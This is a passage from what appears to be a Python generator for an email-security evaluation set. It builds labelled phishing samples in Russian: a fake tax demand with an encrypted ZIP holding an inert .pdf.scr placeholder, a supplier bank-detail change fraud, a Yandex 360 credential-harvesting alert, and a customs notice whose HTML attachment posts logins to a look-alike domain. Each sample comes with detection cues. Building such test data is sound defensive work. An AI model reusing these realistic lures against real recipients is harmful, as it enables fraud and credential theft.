                                     headers=[("X-Attachment-Id", "f_m" + r.alnum(8, "abcdefghijklmnopqrstuvwxyz0123456789"))],
                                     cid="f_" + r.alnum(8, "abcdefghijklmnopqrstuvwxyz0123456789"))],
                 boundary(r, "gmail"))
    hdrs = [("MIME-Version", "1.0"), ("From", addr("Norton Billing Support", "norton.billing.support.gr@gmail.com")),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]),
            ("Subject", hdr_text("Επιβεβαίωση ανανέωσης συνδρομής #GR-88412", "UTF-8", "B")), ("To", rcpt)]
    return assemble(r, prof, rcpt, hdrs, body, env="norton.billing.support.gr@gmail.com")


# ====================================================================== Russian
@register("attack", 37, "ru", "fns-trebovanie-zip",
          "Fake tax-office demand (FNS 'требование о представлении пояснений') with a password-protected ZIP containing a .pdf.scr placeholder.",
          "FNS demands come through the operator of electronic reporting (TKS), never by e-mail from nalog-gov.ru; sent from a VPS without rDNS; encrypted archive with password in the body, double extension .pdf.scr; legal threat (art. 129.1 NK). Hard negative: business 40.")
def a37(r):
    t = T(2026, 11, 17, 10, 25, 30, "RU")
    rcpt = P("ru_acc").addr
    prof = S.own_postfix(r, t, rcpt, "mail.nalog-gov.ru", None, "85.193.81.214", client_ip="127.0.0.1",
                         mua="plain", domain="nalog-gov.ru", client_helo="localhost", zone="RU")
    inner = "Требование_ФНС_12-14-8841.pdf.scr"
    z = zipgen.zipcrypto_zip([(inner, b"INERT PLACEHOLDER - evaluation sample, not a screensaver.\r\n")], "8841",
                             (2026, 11, 17, 10, 11, 48), seed="a37")
    text = """Уважаемый налогоплательщик!

Межрайонная ИФНС России N 15 по Санкт-Петербургу в рамках камеральной налоговой проверки налоговой декларации по налогу на добавленную стоимость за 3 квартал 2026 года направляет Вам требование о представлении пояснений в соответствии со ст. 88 НК РФ.

Организация: ООО "ЭКЗАМПЛ ГРУП РУС", ИНН %s / КПП 780501001
Требование N 12-14/8841 от 17.11.2026

Пояснения необходимо представить в течение пяти рабочих дней со дня получения требования (п. 3 ст. 88 НК РФ). Непредставление пояснений в установленный срок влечёт ответственность по ст. 129.1 НК РФ.

Текст требования приложен в защищённом архиве. Пароль для открытия: 8841

С уважением,
отдел камеральных проверок N 2
Межрайонная ИФНС России N 15 по Санкт-Петербургу
""" % INN_EG_RU
    body = Multi("mixed", [Part("text/plain", text, "koi8-r", "base64"),
                           Part("application/zip", z, filename="Требование_12-14-8841.zip", fname_style="rfc2231")],
                 boundary(r, "generic"))
    hdrs = [("Date", prof["date"]),
            ("From", addr("Межрайонная ИФНС России N 15 по Санкт-Петербургу", "uvedomlenie@nalog-gov.ru", "koi8-r", "B")),
            ("To", rcpt),
            ("Subject", hdr_text("Требование о представлении пояснений N 12-14/8841 от 17.11.2026", "koi8-r", "B")),
            ("Message-ID", prof["mid"]), ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, body, env="uvedomlenie@nalog-gov.ru")


@register("attack", 38, "ru", "postavshik-smena-rekvizitov",
          "Supplier bank-detail change: 'chief accountant' of the St Petersburg parts supplier announces a move to Alfa-Bank and asks to pay two invoices (486,920 RUB) to the new account; PDF letter attached.",
          "Look-alike domain avtozapchasti-sz.com (real: avtozapchasti-sz.ru on Yandex 360); VPS; 'phones not working, write only here'; original letter 'later via EDO'; new bank details are formally valid (BIK key OK), which is what makes the fraud work. Hard negative: business 37.")
def a38(r):
    t = T(2026, 11, 25, 11, 5, 17, "RU")
    rcpt = P("ru_acc").addr
    prof = S.own_postfix(r, t, rcpt, "mail.avtozapchasti-sz.com", "vds-2281744.hosted-by-itldc.com", "91.238.102.44",
                         client_ip="176.59.44.201", mua="outlook", domain="avtozapchasti-sz.com",
                         auth="buh@avtozapchasti-sz.com", zone="RU")
    bik = "044525593"
    acc = B.ru_account(bik, "40702810000001184213")
    ks = B.ru_corr_account(bik)
    text = """Добрый день, Ольга!

Уведомляем Вас об изменении банковских реквизитов ООО «Автозапчасти Северо-Запад» в связи с переходом на расчётно-кассовое обслуживание в АО «АЛЬФА-БАНК». Начиная с 26.11.2026 просим производить оплату только по новым реквизитам:

Получатель: ООО «Автозапчасти Северо-Запад»
ИНН 7802334515 / КПП 780201001
Р/с %s
Банк: АО «АЛЬФА-БАНК», г. Москва
БИК %s
К/с %s

Счёт в ПАО Сбербанк закрывается, платежи на него с 26.11 будут возвращаться. Просим оплатить по новым реквизитам счета № 3318 от 12.11.2026 и № 3356 от 19.11.2026 на общую сумму 486 920,00 руб., в т.ч. НДС 22%%. Письмо за подписью генерального директора во вложении, оригинал направим по ЭДО позже.

По всем вопросам пишите на эту почту - телефоны бухгалтерии временно не работают из-за переезда офиса.

С уважением,
Ирина Васильева
Главный бухгалтер
ООО «Автозапчасти Северо-Запад»
""" % (acc, bik, ks)
    letter = pdf([{"t": "ООО «Автозапчасти Северо-Запад»", "s": 13, "b": True},
                  {"t": "ИНН 7802334515 / КПП 780201001, 194292, Санкт-Петербург, 3-й Верхний пер., д. 1", "s": 8}, "",
                  "Исх. № 412 от 24.11.2026", "", "Генеральному директору ООО «Экзампл Груп Рус»", "",
                  {"t": "Информационное письмо об изменении банковских реквизитов", "b": True}, "",
                  "Настоящим сообщаем, что с 26.11.2026 года расчёты с ООО «Автозапчасти Северо-Запад» производятся по следующим реквизитам:",
                  "Р/с " + acc, "Банк: АО «АЛЬФА-БАНК», г. Москва", "БИК " + bik, "К/с " + ks, "",
                  "Прежние реквизиты считать недействительными.", "",
                  "Генеральный директор ______________ С. А. Лебедев"], t, "RU",
                 title="Письмо о смене реквизитов", producer="Microsoft: Print To PDF")
    body = Multi("mixed", [Part("text/plain", text, "windows-1251", "8bit"),
                           Part("application/pdf", letter, filename="Письмо о смене реквизитов.pdf",
                                fname_charset="windows-1251")],
                 boundary(r, "outlook", 0), preamble="This is a multipart message in MIME format.")
    hdrs = [("From", addr("Ирина Васильева", "buh@avtozapchasti-sz.com", "windows-1251", "B")),
            ("To", addr("Ольга Кузнецова", rcpt, "windows-1251", "B")),
            ("Subject", hdr_text("Изменение банковских реквизитов ООО «Автозапчасти Северо-Запад»", "windows-1251", "B")),
            ("Date", prof["date"]), ("Message-ID", prof["mid"]), ("MIME-Version", "1.0"),
            ("X-Mailer", "Microsoft Outlook 16.0"), ("Content-Language", "ru")]
    return assemble(r, prof, rcpt, hdrs, body, env="buh@avtozapchasti-sz.com")


@register("attack", 39, "ru", "yandex360-hranilishche",
          "Fake 'Yandex 360 for Business' alert: organisation storage is 100 % full and incoming mail is being rejected; 'free up space / extend quota' via admin login.",
          "Sender domain 360-yandex-business.ru (not yandex.ru), PHPMailer on a VPS; harvests Yandex ID admin credentials; urgency (lost mail). Hard negative: business 38 (genuine Yandex ID sign-in notice).")
def a39(r):
    t = T(2026, 12, 7, 9, 40, 15, "RU")
    rcpt = P("ru_mgr").addr
    prof = S.own_postfix(r, t, rcpt, "mail.360-yandex-business.ru", None, "45.12.138.90", client_ip="127.0.0.1",
                         mua="phpmailer", domain="360-yandex-business.ru", client_helo="localhost", zone="RU")
    link = "https://admin.360-yandex-business.ru/storage?org=example.com&uid=dmitry.sokolov"
    text = """Яндекс 360 для бизнеса

Здравствуйте!

Хранилище организации example.com заполнено на 100%% (50,0 ГБ из 50,0 ГБ).

С 07.12.2026 входящие письма для сотрудников организации не доставляются и возвращаются отправителям, загрузка файлов на Диск приостановлена.

Чтобы восстановить работу почты, освободите место или увеличьте объём хранилища в панели администратора:
%s

Это автоматическое уведомление, отвечать на него не нужно.

С уважением,
команда Яндекс 360
""" % link
    html = html_page("""<div style="max-width:600px;margin:0 auto;font-family:YS Text,Arial,sans-serif;font-size:15px;color:#000;line-height:22px">
<div style="padding:18px 0;font-size:20px"><b>Яндекс 360</b> <span style="color:#777">для бизнеса</span></div>
<div style="background:#fff4e5;border-radius:12px;padding:18px">Хранилище организации <b>example.com</b> заполнено на <b>100%%</b> (50,0 ГБ из 50,0 ГБ).</div>
<p>С 07.12.2026 входящие письма для сотрудников организации не доставляются и возвращаются отправителям, загрузка файлов на Диск приостановлена.</p>
<p>Чтобы восстановить работу почты, освободите место или увеличьте объём хранилища в панели администратора.</p>
<p><a href="%s" style="background:#ffdb4d;color:#000;padding:12px 24px;text-decoration:none;border-radius:10px">Перейти в панель администратора</a></p>
<p style="color:#777;font-size:13px">Это автоматическое уведомление, отвечать на него не нужно.<br>С уважением, команда Яндекс 360</p></div>""" % link)
    alt = Multi("alternative", [Part("text/plain", text, "utf-8", "quoted-printable"),
                                Part("text/html", html, "utf-8", "quoted-printable")], boundary(r, "phpmailer"))
    hdrs = [("Date", prof["date"]), ("To", rcpt),
            ("From", addr("Яндекс 360 для бизнеса", "noreply@360-yandex-business.ru", "utf-8", "B")),
            ("Subject", hdr_text("Хранилище организации заполнено — входящие письма не доставляются", "utf-8", "B")),
            ("Message-ID", prof["mid"]), ("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
            ("MIME-Version", "1.0")]
    return assemble(r, prof, rcpt, hdrs, alt, env="noreply@360-yandex-business.ru")


@register("attack", 40, "ru", "fts-kts-html-attachment",
          "Fake customs (FTS) notice of a customs-value adjustment for four imported BMW X5 (2.18 M RUB extra duties and recycling fee) with an HTML attachment 'ЛК участника ВЭД' login.",
          "Customs communicates through the 'ЛК участника ВЭД' portal, not from a yandex.ru mailbox; trade-specific lure (car imports, declaration number of the Baltic customs post); the HTML asks for INN and password and posts them to lk-ved-customs.ru; threat of forced collection.")
def a40(r):
    t = T(2026, 10, 22, 14, 15, 2, "RU")
    rcpt = P("ru_mgr").addr
    prof = S.yandex_out(r, t, rcpt, client_ip="95.165.12.77")
    dt = "10216170/151026/5071842"
    att = fake_login_html("Уведомление о корректировке таможенной стоимости, ДТ N " + dt,
                          "Личный кабинет участника ВЭД", "https://lk-ved-customs.ru/auth/login.php", INN_EG_RU,
                          "Для просмотра решения авторизуйтесь: ИНН организации и пароль личного кабинета.",
                          lang="ru", charset="windows-1251", pwd_label="Пароль", btn="Войти")
    text = """Уважаемый участник ВЭД!

По результатам проверки таможенной стоимости товаров, задекларированных по ДТ № %s (легковые автомобили BMW X5 xDrive40d, 4 ед.), выявлены признаки недостоверного декларирования таможенной стоимости.

В соответствии со ст. 313 ТК ЕАЭС принято решение о корректировке таможенной стоимости. Сумма доначисленных таможенных платежей и утилизационного сбора составляет 2 184 600,00 руб.

Решение и расчёт размещены в Личном кабинете участника ВЭД. Для ознакомления откройте вложенное уведомление и авторизуйтесь. При неуплате в течение 15 рабочих дней взыскание будет произведено в бесспорном порядке.

Балтийская таможня
Отдел контроля таможенной стоимости
""" % dt
    body = Multi("mixed", [Part("text/plain", text, "windows-1251", "quoted-printable"),
                           Part("text/html", att, "windows-1251", "base64",
                                filename="Уведомление_КТС_10216170-151026-5071842.html", fname_charset="utf-8")],
                 boundary(r, "generic"))
    hdrs = [("From", addr("Балтийская таможня", "fts.ved-uvedomlenie@yandex.ru", "utf-8", "B")),
            ("To", rcpt),
            ("Subject", hdr_text("Уведомление о корректировке таможенной стоимости по ДТ № " + dt, "utf-8", "B")),
            ("MIME-Version", "1.0"), ("X-Mailer", "Yamail [ http://yandex.ru ] 5.0"),
            ("Date", prof["date"]), ("Message-Id", prof["mid"])]
    return assemble(r, prof, rcpt, hdrs, body, env="fts.ved-uvedomlenie@yandex.ru")
